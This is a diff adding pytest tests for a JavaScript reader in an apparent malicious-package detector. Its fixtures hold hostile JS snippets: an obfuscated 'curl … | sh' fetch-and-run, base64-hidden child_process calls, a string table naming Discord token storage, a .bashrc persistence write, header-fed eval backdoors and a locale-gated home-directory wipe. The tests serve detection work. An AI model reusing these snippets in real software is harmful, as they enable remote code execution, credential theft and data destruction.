@@ -1,0 +1,216 @@
+"""The JavaScript reader: facts from a tree-sitter tree, on sources shaped like real packages."""
+
+from __future__ import annotations
+
+import base64
+
+from finalexam.analyze.behavior.facts import IMPORT, INSTALL, RUNTIME, Facts
+from finalexam.analyze.behavior.javascript.bounded import bounded_javascript_facts
+from finalexam.analyze.behavior.javascript.visitor import javascript_facts
+from finalexam.model import IssueKind
+
+
+def _calls(facts: Facts) -> dict[str, tuple[int, str]]:
+    found: dict[str, tuple[int, str]] = {}
+    for fact in facts.facts:
+        if fact.kind == "call":
+            found.setdefault(fact.value, (fact.line, fact.context))
+    return found
+
+
+def _strings(facts: Facts) -> set[str]:
+    return {f.value for f in facts.facts if f.kind == "string"}
+
+
+def test_aliases_destructuring_and_interop_wrappers_resolve_to_the_module() -> None:
+    source = "\n".join(
+        [
+            "const cp = require('child_process');",
+            "const { execSync: run, spawn } = require('node:child_process');",
+            "var import_os = __toESM(require('os'));",
+            "import fsDefault from 'fs';",
+            "import * as net from 'net';",
+            "cp.exec('ls');",
+            "run('id');",
+            "spawn('sh', ['-c', 'id']);",
+            "import_os.default.homedir();",
+            "fsDefault.readFileSync('x');",
+            "net.connect(4444, '10.0.0.1');",
+            "process.mainModule.require('http');",
+            "const m = await import('./dyn.js');",
+        ]
+    )
+    calls = _calls(javascript_facts(source))
+    for name in (
+        "child_process.exec",
+        "child_process.execSync",
+        "child_process.spawn",
+        "os.homedir",
+        "fs.readFileSync",
+        "net.connect",
+        "import http",
+        "import ./dyn.js",
+        "import fs",
+    ):
+        assert name in calls, name
+    assert calls["spawn>sh -c id"][0] == 8
+
+
+def test_string_concatenation_escapes_and_constant_subscripts_are_folded() -> None:
+    source = (
+        "var m = require('\\x63hild_' + 'process');\n"
+        "m['ex' + 'ec']('cu' + 'rl -s http://203.0.113.9/p | sh');\n"
+        "require('\\x76\\x6d')['\\x72\\x75\\x6eInThisContext'](code);\n"
+    )
+    facts = javascript_facts(source)
+    calls = _calls(facts)
+    assert "child_process.exec" in calls
+    assert "spawn>curl -s http://203.0.113.9/p | sh" in calls
+    assert "vm.runInThisContext" in calls
+    assert "curl -s http://203.0.113.9/p | sh" in _strings(facts)
+
+
+def test_decoded_literals_are_read_and_code_in_them_is_read_as_code() -> None:
+    hidden = base64.b64encode(b"require('child_process').exec('whoami')").decode()
+    codes = ", ".join(str(ord(c)) for c in "api.ipify.org")
+    source = (
+        f"eval(Buffer.from('{hidden}', 'base64').toString());\n"
+        f"const host = String.fromCharCode({codes});\n"
+        f"const u = atob('{base64.b64encode(b'https://paste.example/raw').decode()}');\n"
+    )
+    facts = javascript_facts(source)
+    calls = _calls(facts)
+    assert calls["eval<-Buffer.from"][0] == 1
+    assert calls["child_process.exec"] == (1, IMPORT)
+    assert {"api.ipify.org", "https://paste.example/raw"} <= _strings(facts)
+
+
+def test_an_obfuscator_string_table_is_decoded() -> None:
+    def encode(text: str) -> str:  # javascript-obfuscator's alphabet: lower case first
+        standard = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/="
+        custom = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/="
+        return base64.b64encode(text.encode()).decode().translate(str.maketrans(standard, custom))
+
+    words = ["child_process", "Local Storage/leveldb", "discord", "exec", "homedir"]
+    table = ", ".join(f"'{encode(w)}'" for w in words)
+    source = (
+        f"var _0x3f2a = [{table}];\n(function (a, b) {{ a.push(a.shift()); }})(_0x3f2a, 0x1b3);\n"
+    )
+    assert set(words) <= _strings(javascript_facts(source))
+
+
+def test_contexts_top_level_iife_called_function_and_runtime_function() -> None:
+    source = "\n".join(
+        [
+            "(function () {",
+            "  require('child_process').exec('a');",
+            "})();",
+            "function deliver(p, text) {",
+            "  require('fs').writeFileSync(p, text);",
+            "}",
+            "function later() {",
+            "  require('child_process').exec('b');",
+            "}",
+            "deliver(require('os').homedir() + '/Desktop/NOTE.txt', 'x');",
+        ]
+    )
+    facts = javascript_facts(source)
+    calls = _calls(facts)
+    assert calls["spawn>a"] == (2, IMPORT)
+    assert calls["spawn>b"] == (8, RUNTIME)
+    assert calls["write>~/Desktop/NOTE.txt"] == (10, IMPORT)
+    assert facts.context_of(8, IMPORT) == RUNTIME
+    installed = _calls(javascript_facts(source, install_file=True))
+    assert installed["spawn>b"][1] == INSTALL
+
+
+def test_template_paths_through_variables_reach_the_write() -> None:
+    source = "\n".join(
+        [
+            "import fs from 'fs';",
+            "import { homedir } from 'os';",
+            "var desk = `${homedir}/OneDrive/Desktop/`;",
+            "var name = 'README-NOW.txt';",
+            "fs.writeFile(`${desk}${name}`, 'text', () => {});",
+            "const rc = require('path').join(process.env.HOME, '.bashrc');",
+            "fs.appendFileSync(rc, 'curl x | sh');",
+        ]
+    )
+    calls = _calls(javascript_facts(source))
+    assert "write>~/OneDrive/Desktop/README-NOW.txt" in calls
+    assert "write>~/.bashrc" in calls
+
+
+def test_header_data_flows_into_an_evaluation() -> None:
+    source = "\n".join(
+        [
+            "module.exports = function (req, res, next) {",
+            "  JSON.stringify(req.headers).replace(/x([a-f0-9]+)y/g, (all, chunk) => {",
+            "    buf += Buffer.from(chunk, 'hex').toString();",
+            "  });",
+            "  if (done) { require('vm').runInThisContext(buf)(module.exports, require); }",
+            "  next();",
+            "};",
+        ]
+    )
+    calls = _calls(javascript_facts(source))
+    assert calls["eval<-request"] == (5, RUNTIME)
+    assert "eval<-Buffer.from" in calls
+
+
+def test_decryption_flows_into_module_compile() -> None:
+    source = "\n".join(
+        [
+            "var crypto = require('crypto');",
+            "var key = require('./package.json').description;",
+            "var d = crypto.createDecipher('aes256', key);",
+            "var out = d.update(payload, 'hex', 'utf8');",
+            "out += d.final('utf8');",
+            "var m = new module.constructor();",
+            "m.paths = module.paths;",
+            "m._compile(out, 'x');",
+        ]
+    )
+    calls = _calls(javascript_facts(source))
+    assert calls["eval<-decipher"] == (8, IMPORT)
+
+
+def test_locale_gate_and_what_it_guards() -> None:
+    source = "\n".join(
+        [
+            "const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;",
+            "if (!['Europe/Moscow', 'Europe/Minsk'].includes(tz)) return;",
+            "console.log('A message for you');",
+            "if (process.env.LANG && process.env.LANG.startsWith('ru')) {",
+            "  require('fs').rmSync(require('os').homedir(), { recursive: true });",
+            "}",
+        ]
+    )
+    calls = _calls(javascript_facts(source))
+    assert calls["gate:locale"][0] == 2
+    assert calls["gated:message"][0] == 3
+    assert calls["gated:delete"][0] == 5
+    assert "delete>~" in calls
+
+
+def test_endless_loop_at_import_only() -> None:
+    calls = _calls(javascript_facts("for (let i = 666; i < Infinity; i++) { console.log(i); }"))
+    assert "loop:endless" in calls
+    assert "loop:endless" not in _calls(javascript_facts("while (true) { if (x()) break; }"))
+    assert "loop:endless" not in _calls(javascript_facts("function f() { for (;;) {} }"))
+
+
+def test_typescript_and_jsx_sources_are_read() -> None:
+    ts = "import { execSync } from 'child_process';\nconst x: string = execSync('id') as string;"
+    jsx = "const cp = require('child_process');\nconst App = () => <div>{cp.exec('id')}</div>;"
+    assert "child_process.execSync" in _calls(javascript_facts(ts))
+    assert "child_process.exec" in _calls(javascript_facts(jsx))
+
+
+def test_a_huge_bundle_is_bounded_and_falls_back_to_text() -> None:
+    source = "var a = require('fs');\n" + "a.readFileSync('x' + 'y');\n" * 300_000
+    facts, why = bounded_javascript_facts(source, 0.05)
+    assert not facts.parsed
+    assert why is not None and why[0] is IssueKind.TIME_BUDGET
+    facts, why = bounded_javascript_facts("require('fs')", 10)
+    assert facts.parsed and why is None
